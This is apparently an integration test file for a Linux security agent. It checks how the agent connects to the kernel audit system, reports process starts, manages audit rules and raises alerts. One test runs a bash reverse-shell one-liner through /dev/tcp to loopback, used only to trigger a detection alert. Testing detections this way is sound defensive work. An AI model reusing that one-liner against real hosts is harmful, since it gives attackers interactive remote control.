import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { AuditControl } from '../../src/agent/linux/audit/control.ts';
import { LinuxEvents } from '../../src/agent/linux/events.ts';
import { NETLINK_AUDIT, openNetlink } from '../../src/agent/linux/native/netlink/socket.ts';
import { systemClock } from '../../src/core/base/clock.ts';
import { seconds } from '../../src/core/base/duration.ts';
import type { ProcessStarted, StreamName } from '../../src/core/contract/streams.ts';
import { quietLog } from '../agent/pipeline/memory-queues.ts';
import { require } from '../harness/require.ts';
import { until } from '../harness/until.ts';
import { QUICK, TestBed } from '../integration/test-bed.ts';
import { missingForAudit } from './missing-for-audit.ts';

describe('The connection to audit before the start of its consumers', function () {
  this.timeout(120_000);
  let control: AuditControl;
  let wanted: Set<StreamName>;
  let reported: ProcessStarted[];
  let events: LinuxEvents;

  before(async function () {
    require(this, await missingForAudit());
  });

  beforeEach(() => {
    control = new AuditControl(openNetlink(NETLINK_AUDIT), systemClock);
    wanted = new Set<StreamName>(['starts', 'exits']);
    reported = [];
    events = new LinuxEvents({
      streams: () => wanted,
      sink: {
        accept: (stream, records) => {
          if (stream === 'starts') reported.push(...(records as readonly ProcessStarted[]));
        },
        drop: () => {},
      },
      clock: systemClock,
      log: quietLog(),
      hostRoot: '/',
      loopback: true,
    });
  });
  afterEach(async () => {
    await events.stop();
    await events.connection.stop();
    control.close();
  });

  const ownRules = async () => (await control.rules()).filter(({ ours }) => ours);
  const withArgument = (argument: string) => reported.filter(({ commandLine }) => commandLine.includes(argument));

  it('reports the programs that started before it was read', async () => {
    await events.connection.start();
    const marker = `early-${process.pid}`;
    for (let run = 0; run < 40; run += 1) execFileSync('/bin/true', [`${marker}-${run}.`]);
    assert.deepEqual(reported, []);
    await events.start();
    await until('all starts', () => withArgument(marker).length >= 40);
    assert.deepEqual(
      withArgument(marker).map(({ commandLine }) => commandLine),
      Array.from({ length: 40 }, (_, run) => `/bin/true ${marker}-${run}.`),
    );
    assert.equal(events.status('starts').source, 'auditUnicast');
  });

  it('drops a process that exited before exits were received, after its children were reported', async () => {
    await events.connection.start();
    const marker = `parent-${process.pid}`;
    const parent = spawnSync('/bin/sh', ['-c', '/bin/true "$0"; :', marker]).pid;
    await events.start();
    await until('the child', () => withArgument(`/bin/true ${marker}`).length > 0);
    const [child] = withArgument(`/bin/true ${marker}`);
    const moment = { time: child?.time.getTime() ?? 0, serial: child?.serial };
    assert.equal(child?.parentPid, parent);
    assert.match(events.processAt(parent, moment)?.commandLine ?? '', /^\/bin\/sh -c /);
    assert.equal(events.processAt(parent, { time: Date.now() + 1_000, serial: undefined }), undefined);
  });

  it('opens nothing if no consumer requests events', async () => {
    const before = await control.status();
    wanted.clear();
    await events.connection.start();
    assert.deepEqual(await ownRules(), []);
    assert.equal((await control.status()).pid, before.pid);
  });

  it('is closed at a start if no consumer requests it any more', async () => {
    const before = await control.status();
    await events.connection.start();
    wanted.clear();
    await events.start();
    assert.deepEqual(await ownRules(), []);
    assert.equal((await control.status()).enabled, before.enabled);
    assert.deepEqual(reported, []);
  });

  it('sets the rules that consumers request at the start', async () => {
    await events.connection.start();
    const before = (await ownRules()).length;
    wanted.add('connections');
    await events.start();
    assert.ok((await ownRules()).length > before);
  });

  it('restores audit and reports nothing when another part fails to start', async () => {
    const before = await control.status();
    await events.connection.start();
    assert.notDeepEqual(await ownRules(), []);
    execFileSync('/bin/true');
    await events.connection.stop();
    const { enabled, failure, backlogLimit, pid } = await control.status();
    assert.deepEqual(await ownRules(), []);
    assert.deepEqual({ enabled, failure, backlogLimit }, pickSettings(before));
    assert.notEqual(pid, process.pid);
    assert.deepEqual(reported, []);
  });
});

const pickSettings = ({ enabled, failure, backlogLimit }: Awaited<ReturnType<AuditControl['status']>>) => ({
  enabled,
  failure,
  backlogLimit,
});

describe('An agent that starts', function () {
  this.timeout(180_000);
  let bed: TestBed;

  before(async function () {
    require(this, await missingForAudit());
    bed = await TestBed.open();
    bed.writeConfiguration({ detections: { enabled: true }, logging: { level: 'debug' } });
    bed.startWith(QUICK);
  });
  after(() => bed?.close());

  it('connects to audit before it recovers its queues, and applies the rules to what happens from then on', async () => {
    const marker = `early${process.pid}`;
    const agent = bed.startAgent();
    await agent.waitForLog(({ msg, service }) => msg === 'Started.' && service === "connection to the kernel's audit");
    spawnSync('/bin/bash', ['-c', `: ${marker}; bash -i >& /dev/tcp/127.0.0.1/1 0>&1`], { stdio: 'ignore' });
    const isMarked = ({ CommandLine }: { readonly CommandLine?: unknown }) => String(CommandLine).includes(marker);
    await until(
      'the event and the alert',
      () => bed.elements('ProcessCreate').some(isMarked) && bed.elements('SecurityAlert').some(isMarked),
      { limit: seconds(90) },
    );
    const started = agent.log.filter(({ msg }) => msg === 'Started.').map(({ service }) => service);
    const at = (service: string) => started.indexOf(service);
    assert.ok(at("connection to the kernel's audit") < at('queues'), started.join(', '));
    assert.ok(at('detections') < at('events of Linux'), started.join(', '));
  });
});
